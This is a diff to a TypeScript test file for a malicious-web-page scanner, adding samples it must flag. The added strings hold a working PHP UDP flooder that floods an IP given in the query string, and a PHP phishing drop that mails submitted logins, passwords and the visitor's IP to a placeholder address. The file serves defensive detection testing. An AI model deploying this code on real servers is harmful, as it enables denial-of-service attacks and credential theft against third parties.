@@ -178,6 +178,16 @@ out.print("heap " + used + " db " + db);
 
 const VARIANTS: [string, string, string][] = [
   [
+    'the classic flooder page: a payload built by a loop, while (1) until the clock passes the end (red team S43B-26)',
+    '/srv/www/d.php',
+    `<?php\nignore_user_abort(1);\n$ip = $_GET['ip'];\n$max = time() + intval($_GET['time']);\n$out = '';\nfor ($i = 0; $i < 65000; $i++) { $out .= 'X'; }\nwhile (1) {\n  if (time() > $max) { break; }\n  $fp = fsockopen("udp://$ip", rand(1, 65000), $errno, $errstr, 5);\n  if ($fp) { fwrite($fp, $out); fclose($fp); }\n}\n`,
+  ],
+  [
+    'a phishing drop sending its page on with a relative, lower-case Location (red team S43B-33, -35)',
+    '/srv/www/login/step1.php',
+    `<?php\n$ip = $_SERVER['REMOTE_ADDR'];\n$body = "login: " . $_POST['user'] . "\\npassword: " . $_POST['password'] . "\\nip: " . $ip;\nmail('box@example.invalid', 'rez', $body);\nheader("location: step2.html");\n`,
+  ],
+  [
     'the Java reverse shell as a class of its own kept as .jsp (H42)',
     '/var/lib/tomcat/webapps/ROOT/cls.jsp',
     `import java.io.*;
@@ -224,7 +234,7 @@ describe('scan: session 43 samples, the misses written again', () => {
       assert.equal(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every variant', () => assert.equal(VARIANTS.length, 1));
+  it('ran every variant', () => assert.equal(VARIANTS.length, 3));
   it('reports the line of a write after a long literal as the text\'s own', () => {
     const r = scan(PAGES[0]![2], PAGES[0]![1]);
     const flow = r.findings.find((f) => f.rule === 'mamori:flow');
